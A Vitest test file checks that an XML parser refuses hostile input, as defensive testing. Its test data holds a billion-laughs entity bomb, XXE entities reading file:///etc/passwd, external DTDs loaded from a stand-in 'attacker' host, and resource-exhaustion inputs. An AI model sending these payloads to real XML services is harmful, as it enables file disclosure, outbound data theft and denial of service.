import { describe, expect, test } from 'vitest';
import { readXml, readXmlDocument } from '../src/index.js';
import { xmlErrorOf } from './helpers.js';

describe('hostile input', () => {
  test('refuses billion laughs before expanding anything', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<lolz>&lol2;</lolz>`;
    expect(xmlErrorOf(() => readXmlDocument(lol))).toMatchObject({ code: 'XML_FORBIDDEN', line: 2 });
  });

  test('refuses an external entity (XXE) and a parameter entity', () => {
    for (const text of [
      '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
      '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker/x.dtd"> %p;]><foo/>',
      '<!DOCTYPE foo SYSTEM "http://attacker/x.dtd"><foo/>',
    ]) {
      expect(xmlErrorOf(() => readXmlDocument(text)).code).toBe('XML_FORBIDDEN');
    }
  });

  test('refuses a reference to an entity that no DOCTYPE declared', () => {
    expect(xmlErrorOf(() => readXmlDocument('<foo>&xxe;</foo>')).code).toBe('XML_FORBIDDEN');
  });

  test('refuses deep nesting at the depth limit without exhausting the stack', () => {
    const deep = '<a>'.repeat(1_000_000);
    expect(xmlErrorOf(() => readXmlDocument(deep))).toMatchObject({ limit: 'maxDepth', column: 256 * 3 + 1 });
  });

  test('reads nesting far beyond any call stack when the limit allows it', () => {
    const depth = 200_000;
    const text = `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    expect(readXmlDocument(text, { maxDepth: depth }).local).toBe('a');
  });

  test('refuses an element with many attributes at the attribute limit', () => {
    const attrs = Array.from({ length: 100_000 }, (_, i) => ` a${i}="${i}"`).join('');
    expect(xmlErrorOf(() => readXmlDocument(`<e${attrs}/>`)).limit).toBe('maxAttributes');
  });

  test('checks many attributes for repeats without quadratic time when the limit allows them', () => {
    const attrs = Array.from({ length: 100_000 }, (_, i) => ` a${i}="${i}"`).join('');
    expect(readXmlDocument(`<e${attrs}/>`, { maxAttributes: 100_000 }).attributes).toHaveLength(100_000);
    expect(xmlErrorOf(() => readXmlDocument(`<e${attrs} a5="x"/>`, { maxAttributes: 200_000 })).reason).toBe(
      'attribute "a5" is repeated',
    );
  });

  test('refuses many prefixed attributes with one expanded name', () => {
    const decls = Array.from({ length: 50 }, (_, i) => ` xmlns:p${i}="urn:same"`).join('');
    const attrs = Array.from({ length: 50 }, (_, i) => ` p${i}:a="1"`).join('');
    expect(xmlErrorOf(() => readXmlDocument(`<e${decls}${attrs}/>`)).reason).toBe(
      'attribute {urn:same}a is repeated',
    );
  });

  test('refuses many elements at the element limit', () => {
    expect(xmlErrorOf(() => readXml('<a/>'.repeat(3_000_000))).limit).toBe('maxElements');
  });

  test('reads long runs of references, comments and dashes in linear time', () => {
    const n = 1_000_000;
    expect(readXmlDocument(`<a>${'&amp;'.repeat(n)}</a>`).children[0]).toHaveLength(n);
    expect(readXmlDocument(`<a>${'<!-- x -->'.repeat(n / 10)}</a>`).children).toEqual([]);
    expect(xmlErrorOf(() => readXmlDocument(`<a>${'&a'.repeat(n)}</a>`)).reason).toBe(
      'entity reference without ";"',
    );
    expect(xmlErrorOf(() => readXmlDocument(`<a><!--${'-x'.repeat(n)}</a>`)).reason).toBe(
      'unterminated comment',
    );
  });

  test('refuses a character reference with a huge number', () => {
    expect(xmlErrorOf(() => readXmlDocument(`<a>&#${'9'.repeat(10_000)};</a>`)).code).toBe(
      'XML_INVALID_CHAR',
    );
  });
});
